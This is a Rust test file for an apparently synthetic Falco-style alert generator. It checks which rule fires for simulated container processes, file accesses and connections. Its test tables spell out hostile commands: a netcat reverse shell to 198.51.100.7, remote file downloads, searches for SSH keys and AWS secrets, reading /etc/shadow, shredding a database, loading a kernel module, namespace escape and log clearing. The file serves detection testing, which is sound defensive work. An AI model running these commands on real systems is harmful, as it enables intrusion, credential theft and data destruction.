use palisade_events::time::SECOND;
use serde_json::Value;

use crate::act::{Access, Connect, End, Login, Outcome, Parent, Place, Process, Terminal, Touch, Transport, Verdict};
use crate::cluster::{Cluster, Pod};
use crate::random::Random;
use crate::record::{Label, Record, Stream};
use crate::settings::Settings;
use crate::wire::Wire;

const AT: i64 = 1_772_442_000_000_000;
const LABEL: Option<Label> = Some(Label { attack: 1, step: 2 });

fn stage() -> (Cluster, Wire) {
    let settings = Settings { streams: vec![Stream::Falco], ..Settings::default() };
    let mut random = Random::new(7);
    let cluster = Cluster::new(&settings, &mut random);
    let wire = Wire::new(&settings, random, cluster.nodes.len());
    (cluster, wire)
}

/// A process as root in a container, its words split at spaces.
fn process<'p>(place: Place<'p>, exe: &'p str, argv: &'p [&'p str]) -> Process<'p> {
    let parent = match place {
        Place::Pod(pod) => Wire::shim(pod, AT),
        Place::Node(_) => Parent { pid: 1, exe: "/usr/lib/systemd/systemd", arguments: "", started: 0 },
    };
    Process {
        place,
        pid: 4_321,
        exe,
        argv,
        cwd: "/",
        uid: 0,
        login: Login::None,
        terminal: Terminal::None,
        parent,
        started: AT,
    }
}

fn sent(wire: &mut Wire) -> Vec<(Value, Record)> {
    std::iter::from_fn(|| wire.delivered(i64::MAX))
        .map(|record| (serde_json::from_slice(&record.payload).unwrap(), record))
        .collect()
}

fn rules(wire: &mut Wire) -> String {
    let rules: Vec<String> = sent(wire).iter().map(|(alert, _)| alert["rule"].as_str().unwrap().to_owned()).collect();
    rules.join(", ")
}

fn web(cluster: &Cluster) -> &Pod {
    cluster.pods.iter().find(|pod| pod.workload == "web").unwrap()
}

#[test]
fn programs_that_start_are_judged_by_what_the_rules_look_at() {
    let (cluster, mut wire) = stage();
    let pod = web(&cluster);
    for (exe, line, expected) in [
        ("/app/web", "/app/web", ""),
        ("/usr/bin/pg_isready", "pg_isready -U postgres", ""),
        ("/bin/sh", "sh -c /app/healthcheck", ""),
        ("/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444", "Netcat Remote Code Execution in Container"),
        ("/usr/bin/nc.openbsd", "nc -lvp 4444", "Launch Suspicious Network Tool in Container"),
        ("/app/updater", "updater -e /bin/sh 198.51.100.7 4444", ""),
        ("/usr/bin/nmap", "nmap -sT 10.244.1.0/24", "Launch Suspicious Network Tool in Container"),
        (
            "/usr/bin/tcpdump",
            "tcpdump -i eth0",
            "Launch Suspicious Network Tool in Container, Packet socket created in container",
        ),
        // Under another name it is no network tool, but what it opens is what it is.
        ("/app/td", "td -i eth0", "Packet socket created in container"),
        ("/sbin/apk", "apk add curl", "Launch Package Management Process in Container"),
        ("/tmp/kworkerd", "/tmp/kworkerd", "Drop and execute new binary in container"),
        ("/dev/shm/x", "/dev/shm/x", "Execution from /dev/shm"),
        ("/dev/shm/x", "kworker", ""),
        ("memfd:a", "kworker", "Fileless execution via memfd_create"),
        ("/usr/bin/find", "find / -name id_rsa", "Search Private Keys or Passwords"),
        ("/bin/grep", "grep -ri aws_secret_access_key /home", "Find AWS Credentials"),
        ("/usr/bin/shred", "shred -u /data/orders.db", "Remove Bulk Data from Disk"),
        ("/bin/ln", "ln -s /etc/shadow /app/static/x", "Create Symlink Over Sensitive Files"),
        ("/bin/ln", "ln -s /app/current /app/live", ""),
        ("/bin/chmod", "chmod 4755 /app/bash", "Set Setuid or Setgid bit"),
        ("/bin/chmod", "chmod 755 /app/web", ""),
        ("/sbin/insmod", "insmod /app/rk.ko", "Linux Kernel Module Injection Detected"),
        ("/bin/mount", "mount /dev/sda1 /mnt", "Mount Launched in Privileged Container"),
        ("/bin/mount", "mount", ""),
        ("/usr/bin/nsenter", "nsenter -t 1 -m -- sh", "Change thread namespace"),
        ("/usr/bin/curl", "curl -fsSLo x http://198.51.100.7/x", ""),
        ("/usr/bin/curl", "curl -o x http://198.51.100.7/x", "Launch Ingress Remote File Copy Tools in Container"),
        ("/app/a", "a -o stratum+tcp://pool.example.net:3333", "Detect crypto miners using the Stratum protocol"),
    ] {
        let argv: Vec<&str> = line.split(' ').collect();
        wire.falco_launch(&cluster, &process(Place::Pod(pod), exe, &argv), LABEL);
        assert_eq!(rules(&mut wire), expected, "{line}");
    }
}

#[test]
fn shells_are_judged_by_terminal_parent_and_place() {
    let (cluster, mut wire) = stage();
    let pod = web(&cluster);
    let nginx = Parent { pid: 9, exe: "/usr/sbin/nginx", arguments: "-g daemon off;", started: 0 };
    let postgres = Parent { exe: "/usr/lib/postgresql/17/bin/postgres", ..nginx };
    let shell = Parent { exe: "/bin/bash", ..nginx };
    let inside = process(Place::Pod(pod), "/bin/sh", &["sh"]);
    let terminal = Terminal::Attached;
    let www = Login::Person(33, "www-data", "pts3", 12);
    for (process, expected) in [
        (Process { terminal, ..inside }, "Terminal shell in container"),
        (Process { terminal, parent: shell, ..inside }, ""),
        (Process { terminal, exe: "/app/zzz", ..inside }, ""),
        (Process { terminal, ..process(Place::Node(0), "/usr/bin/bash", &["-bash"]) }, ""),
        (Process { parent: nginx, argv: &["sh", "-c", "id"], ..inside }, "Run shell untrusted"),
        (Process { parent: nginx, argv: &["sh", "-c", "whoami"], ..inside }, ""),
        (Process { parent: postgres, exe: "/usr/bin/id", argv: &["id"], ..inside }, "DB program spawned process"),
        (Process { uid: 33, login: www, ..process(Place::Node(0), "/usr/bin/id", &["id"]) }, "System user interactive"),
        (process(Place::Node(0), "/usr/sbin/useradd", &["useradd", "eve"]), ""),
        (
            Process { parent: shell, ..process(Place::Node(0), "/usr/sbin/useradd", &["useradd", "eve"]) },
            "User mgmt binaries",
        ),
    ] {
        wire.falco_launch(&cluster, &process, None);
        assert_eq!(rules(&mut wire), expected, "{} {:?}", process.exe, process.argv);
    }
}

#[test]
fn files_are_judged_by_path_access_and_program() {
    let (cluster, mut wire) = stage();
    let pod = web(&cluster);
    use Access::{Attributes, Create, Delete, Read, Write};
    for (exe, line, access, path, expected) in [
        ("/bin/cat", "cat /etc/shadow", Read, "/etc/shadow", "Read sensitive file untrusted"),
        ("/bin/cat", "cat /host/etc/shadow", Read, "/host/etc/shadow", ""),
        ("/usr/sbin/unix_chkpwd", "unix_chkpwd root", Read, "/etc/shadow", ""),
        ("/usr/sbin/nginx", "nginx", Read, "/etc/shadow", "Read sensitive file trusted after startup"),
        ("/app/web", "web", Read, "../../../../etc/passwd", "Directory traversal monitored file read"),
        ("/app/web", "web", Read, "/app/../app/x", ""),
        ("/bin/cat", "cat", Read, "/root/.ssh/id_rsa", "Read ssh information"),
        ("/bin/cat", "cat", Read, "/proc/1/environ", "Read environment variable from /proc files"),
        ("/bin/tar", "tar cf - /data", Read, "/data", "Exfiltrating Artifacts via Kubernetes Control Plane"),
        ("/bin/cat", "cat", Read, "/var/run/secrets/kubernetes.io/serviceaccount/token", ""),
        ("/bin/sh", "sh -c :>/var/log/auth.log", Write, "/var/log/auth.log", "Clear Log Activities"),
        ("/bin/sh", "sh -c date>>/var/log/auth.log", Write, "/var/log/auth.log", ""),
        ("/usr/bin/truncate", "truncate -s 0 /var/log/auth.log", Write, "/var/log/auth.log", ""),
        ("/bin/sh", "sh", Write, "/tmp/c/release_agent", "Detect release_agent File Container Escapes"),
        ("/bin/cp", "cp a /etc/cron.d/a", Create, "/etc/cron.d/a", "Schedule Cron Jobs"),
        ("/usr/bin/tee", "tee -a x", Write, "/root/.bashrc", "Modify Shell Configuration File"),
        ("/bin/sh", "sh", Write, "/root/.bashrc", ""),
        ("/bin/rm", "rm", Delete, "/root/.bash_history", "Delete or rename shell history"),
        ("/usr/bin/tee", "tee", Write, "/root/.ssh/authorized_keys", "Adding ssh keys to authorized_keys"),
        ("/bin/cp", "cp", Create, "/var/tmp/.x", "Create Hidden Files or Directories"),
        ("/usr/bin/tee", "tee", Write, "/etc/apt/sources.list", "Update Package Repository"),
        ("/bin/chmod", "chmod", Attributes, "/etc/shadow", ""),
    ] {
        let argv: Vec<&str> = line.split(' ').collect();
        let by = Process { started: AT - 60 * SECOND, ..process(Place::Pod(pod), exe, &argv) };
        let touch = Touch { by, path, access, outcome: Outcome::Success };
        wire.falco_touch(&cluster, AT, &touch, LABEL);
        assert_eq!(rules(&mut wire), expected, "{line}: {path}");
        let is_traversal = expected.starts_with("Directory") || expected.starts_with("Delete");
        wire.falco_touch(&cluster, AT, &Touch { outcome: Outcome::Failure, ..touch }, LABEL);
        assert_eq!(rules(&mut wire), if is_traversal { expected } else { "" }, "{line}: {path} fails");
    }
}

#[test]
fn connections_are_judged_by_both_ends() {
    let (cluster, mut wire) = stage();
    let pod = web(&cluster);
    let system = cluster.pods.iter().find(|pod| pod.namespace == "kube-system").unwrap();
    let outside = |ip, name| End::Outside { ip, name };
    let (tcp, udp) = (Transport::Tcp, Transport::Udp);
    for (from, to, transport, port, by, expected) in [
        (pod, End::ApiServer, tcp, 443, None, "Contact K8S API Server From Container"),
        (system, End::ApiServer, tcp, 443, None, ""),
        (pod, End::Pod(system), tcp, 5_432, None, ""),
        (pod, End::Pod(system), udp, 53, None, ""),
        (pod, outside("198.51.100.7", ""), tcp, 443, None, ""),
        (pod, outside("198.51.100.7", "pool.example.net"), tcp, 3_333, None, ""),
        (
            pod,
            outside("198.51.100.7", "pool.supportxmr.com"),
            tcp,
            3_333,
            None,
            "Detect outbound connections to common miner pool ports",
        ),
        (pod, outside("169.254.169.254", ""), tcp, 80, None, "Contact EC2 Instance Metadata Service From Container"),
        (pod, outside("198.51.100.7", ""), tcp, 4_444, Some(("/bin/bash", "bash")), "System procs network activity"),
        (
            pod,
            outside("198.51.100.7", ""),
            tcp,
            443,
            Some(("/usr/bin/ssh", "ssh")),
            "Disallowed SSH Connection Non Standard Port",
        ),
        (pod, outside("198.51.100.7", ""), udp, 51_820, Some(("/app/wg", "wg")), "Unexpected UDP Traffic"),
    ] {
        let argv = [by.map_or("", |(_, called)| called)];
        let connect = Connect {
            from: End::Pod(from),
            to,
            source_port: 48_210,
            port,
            transport,
            verdict: Verdict::Forwarded,
            bytes_sent: 1,
            bytes_received: 1,
            count: 1,
            lasts: SECOND,
            by: by.map(|(exe, _)| process(Place::Pod(from), exe, &argv)),
        };
        wire.falco_connect(&cluster, AT, &connect, LABEL);
        assert_eq!(rules(&mut wire), expected, "{port}");
        wire.falco_connect(&cluster, AT, &Connect { count: 3, ..connect }, LABEL);
        assert_eq!(sent(&mut wire).len(), if expected.is_empty() { 0 } else { 3 }, "{port}");
    }
}

#[test]
fn alerts_have_the_shape_of_falcos() {
    let (cluster, mut wire) = stage();
    let pod = web(&cluster);
    let login = Login::Person(1_000, "sam", "pts2", 811);
    let argv = ["cat", "/etc/shadow"];
    let on_node = Process { login, terminal: Terminal::Attached, ..process(Place::Node(1), "/usr/bin/cat", &argv) };
    let in_pod = process(Place::Pod(pod), "/bin/cat", &argv);
    for by in [on_node, in_pod] {
        let touch = Touch { by, path: "/etc/shadow", access: Access::Read, outcome: Outcome::Success };
        wire.falco_touch(&cluster, AT, &touch, LABEL);
    }
    wire.falco_privileged_container(&cluster, AT, pod, LABEL);
    wire.falco_lost(&cluster, AT, 1, 120);
    let mut alerts = sent(&mut wire);
    alerts.sort_by_key(|(_, record)| record.payload.clone());
    for (alert, record) in &alerts {
        let own: Vec<&String> = alert["output_fields"].as_object().unwrap().keys().collect();
        let text = std::str::from_utf8(&record.payload).unwrap();
        let at = |key: &String| text.find(&format!("\"{key}\":")).unwrap();
        assert!(own.windows(2).all(|pair| at(pair[0]) < at(pair[1])), "{text}");
        let tags: Vec<&str> = alert["tags"].as_array().unwrap().iter().map(|tag| tag.as_str().unwrap()).collect();
        assert!(tags.is_sorted(), "{tags:?}");
    }
    let told = |rule: &str, host: bool| {
        let is_it = |a: &Value| a["rule"] == rule && (a["output_fields"]["container.id"] == "host") == host;
        alerts.iter().map(|(alert, _)| alert).find(|alert| is_it(alert)).unwrap()
    };
    let alert = told("Read sensitive file untrusted", true);
    let fields = &alert["output_fields"];
    assert_eq!(fields["user.loginuid"], 1_000);
    assert_eq!(fields["proc.tty"], 34_818);
    assert_eq!(fields["proc.aname[3]"], "sshd");
    assert_eq!(fields["k8s.pod.name"], Value::Null);
    assert!(
        alert["output"]
            .as_str()
            .unwrap()
            .contains("Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=bash ")
    );
    let alert = told("Read sensitive file untrusted", false);
    assert_eq!(alert["output_fields"]["k8s.pod.name"], pod.name.as_str());
    assert_eq!(alert["output_fields"]["proc.pname"], "containerd-shim");
    assert_eq!(told("Launch Privileged Container", false)["priority"], "Informational");
    let lost = told("Falco internal: syscall event drop", false);
    assert_eq!(lost["output_fields"]["n_drops"], 120);
    assert_eq!(alerts.iter().filter(|(_, record)| record.label == LABEL).count(), 3);
}
